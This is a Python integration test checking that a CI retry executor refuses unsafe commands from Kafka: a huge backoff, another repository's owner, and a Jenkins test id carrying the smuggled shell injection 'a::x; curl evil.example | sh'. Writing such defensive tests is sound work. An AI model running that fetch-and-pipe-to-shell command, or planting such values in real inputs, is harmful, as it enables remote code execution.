"""The real ``guard executor --once --live --repo acme/shop`` on real Kafka with commands it must refuse: a
backoff of 1e12 s (it used to be scheduled and ``--once`` never returned), one scheduled that way by an
older executor, a command for another repository and a Jenkins test id with shell metacharacters. Each
gets a ``refused`` outcome saying ``refused: <field>``, nothing reaches an API, and the process exits."""

from __future__ import annotations

import asyncio
import subprocess
import uuid
from pathlib import Path
from typing import Any

import pytest

from healing_guard.executor.core import ScheduleStore
from healing_guard.schemas import Command, Outcome
from healing_guard.settings import load_settings
from healing_guard.streams.topics import ensure_topics

from tests.integration.executor.test_executor_faults import start_executor
from tests.integration.helpers import collect, produce
from tests.support.fake_apis import FakeApis

pytestmark = pytest.mark.integration


async def test_refused_commands_get_outcomes_and_once_returns(kafka_bootstrap: str, tmp_path: Path) -> None:
    prefix = f"xc{uuid.uuid4().hex[:8]}."
    settings = load_settings(None, env={}, broker_url=f"kafka://{kafka_bootstrap}", topic_prefix=prefix,
                             app_id=prefix.rstrip("."), partitions=1)
    await ensure_topics(settings)

    def command(n: int, provider: str, action: str, owner: str = "acme", **parameters: Any) -> Command:
        return Command(provider=provider, owner=owner, repo="shop", job_id=str(n),  # type: ignore[arg-type]
                       command_id=f"{prefix}{n}", attempt=1, action=action, reason="r", category="network",
                       confidence=0.9, parameters=parameters, run_id=str(n))

    c = {1: command(1, "github", "retry_backoff", backoff_seconds=[1e12]),
         2: command(2, "github", "retry", owner="evil"),
         3: command(3, "jenkins", "retry_tests_isolated", tests=["a::x; curl evil.example | sh"],
                    failed_tests=["a::x; curl evil.example | sh"]),
         4: command(4, "github", "retry"),
         5: command(5, "github", "retry_backoff", backoff_seconds=[1e12])}  # scheduled by an older executor
    data, log = tmp_path / "executor", tmp_path / "executor.log"
    ScheduleStore(data).add(c[5], 1e12)
    await produce(kafka_bootstrap, prefix, [("guard.actions", c[n].job_key.encode(), c[n].to_json())
                                            for n in (1, 2, 3, 4)])
    with FakeApis() as api:
        proc = start_executor(kafka_bootstrap, prefix, api.url, data, log, "--once", "--repo", "acme/shop")
        try:
            rc = await asyncio.to_thread(proc.wait, 90)  # a hang guard, not a timing assertion
        except subprocess.TimeoutExpired:
            proc.kill()
            raise AssertionError("guard executor --once did not return:\n" + log.read_text()[-3000:]) from None
        assert rc == 0, log.read_text()[-3000:]
        paths = [r.path for r in api.requests]

    assert paths == ["/repos/acme/shop/actions/runs/4/rerun-failed-jobs"]
    records = await collect(kafka_bootstrap, settings.topics.outcomes, 5, 20, settle=1.0)
    by_id = {o.command_id: o for o in (Outcome.from_json(r.value) for r in records)}
    assert len(records) == 5 and set(by_id) == {c[n].command_id for n in c}
    o = {n: by_id[c[n].command_id] for n in c}
    assert o[4].status == "succeeded"
    for n, field in ((1, "parameters.backoff_seconds[0]"), (2, "repo"), (3, "parameters.tests: holds a shell metacharacter"),
                     (5, "parameters.backoff_seconds[0]")):
        assert o[n].status == "refused" and o[n].detail.startswith(f"refused: {field}"), (n, o[n].detail)
    assert len(ScheduleStore(data)) == 0
    assert "refused=4 succeeded=1" in log.read_text()
